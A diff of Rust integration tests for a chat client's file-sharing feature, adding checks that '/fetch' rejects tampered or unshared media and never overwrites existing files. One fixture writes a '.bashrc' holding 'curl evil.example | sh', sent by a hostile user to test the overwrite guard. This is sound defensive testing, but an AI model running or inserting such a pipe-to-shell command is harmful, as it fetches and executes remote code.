@@ -779,18 +779,53 @@ fn two_chat_sessions_exchange_a_message_and_a_photo() {
     alice.expect("file sent");
     let shared = bob.expect("alice shared photo.jpg");
     assert!(shared.contains("image/jpeg"), "{shared}");
-    let media_id = shared
-        .split("/fetch ")
-        .nth(1)
-        .unwrap()
-        .split_whitespace()
-        .next()
-        .unwrap()
-        .to_owned();
+    let (media_id, _) = offered_fetch(&shared);
     let saved = dir.path().join("received.jpg");
     bob.say(&format!("/fetch {media_id} {}", saved.display()));
     bob.expect("saved 200000 bytes");
     assert_eq!(std::fs::read(&saved).unwrap(), photo);
+}
+
+/// The media id and file name of the `/fetch MEDIA_ID NAME` a line of `courier chat` offers.
+fn offered_fetch(line: &str) -> (String, String) {
+    let offered = line.split("/fetch ").nth(1).unwrap();
+    let (media_id, name) = offered.split_once(' ').unwrap();
+    (media_id.to_owned(), name.to_owned())
+}
+
+/// `/fetch` checks the bytes it downloads against what the message that shared them says
+/// (their size and SHA-256), and refuses, saving nothing, bytes of another kind (a media store
+/// that changed them), and an id no message of the session shared, whose size and SHA-256 it
+/// does not know. It saved whatever bytes came as the file the sender shared.
+#[test]
+fn a_chat_fetch_refuses_bytes_other_than_those_shared() {
+    let dir = tempfile::tempdir().unwrap();
+    let server = Server::start_in(dir.path(), &[]);
+    let mut bob = Chat::start(&server, "bob", "alice");
+    let mut alice = Chat::start(&server, "alice", "bob");
+    let photo = dir.path().join("photo.jpg");
+    std::fs::write(&photo, "the photo alice took").unwrap();
+    alice.say(&format!("/send-file {}", photo.display()));
+    alice.expect("file sent");
+    let (media_id, _) = offered_fetch(&bob.expect("alice shared photo.jpg"));
+    // The server's copy changed in place: as long, other bytes.
+    for blob in std::fs::read_dir(dir.path().join("media/blobs")).unwrap() {
+        std::fs::write(blob.unwrap().path(), "THE PHOTO ALICE TOOK").unwrap();
+    }
+    let saved = dir.path().join("received.jpg");
+    bob.say(&format!("/fetch {media_id} {}", saved.display()));
+    let refused = bob.expect("✗");
+    assert!(
+        refused.contains("not those the message shares"),
+        "{refused}"
+    );
+    assert!(!saved.exists());
+
+    bob.say(&format!("/fetch unshared-id {}", saved.display()));
+    let refused = bob.expect("✗");
+    assert!(refused.contains("unshared-id"), "{refused}");
+    assert!(refused.contains("no message"), "{refused}");
+    assert!(!saved.exists());
 }
 
 /// `courier chat` run as it would be, its standard error and whether it succeeded.
@@ -932,12 +967,10 @@ fn a_chat_fetch_never_overwrites_an_existing_file() {
     std::fs::write(sent.join(".bashrc"), "curl evil.example | sh\n").unwrap();
     mallory.say(&format!("/send-file {}", sent.join(".bashrc").display()));
     mallory.expect("file sent");
-    let shared = bob.expect("mallory shared .bashrc");
-    let offered = shared.split("/fetch ").nth(1).unwrap().to_owned();
+    let (media_id, name) = offered_fetch(&bob.expect("mallory shared .bashrc"));
     let home = dir.path().join("bob-home");
     std::fs::create_dir(&home).unwrap();
     std::fs::write(home.join(".bashrc"), "alias ll='ls -l'\n").unwrap();
-    let (media_id, name) = offered.split_once(' ').unwrap();
     assert_eq!(name, ".bashrc");
     bob.say(&format!("/fetch {media_id} {}", home.join(name).display()));
     let refused = bob.expect("✗");
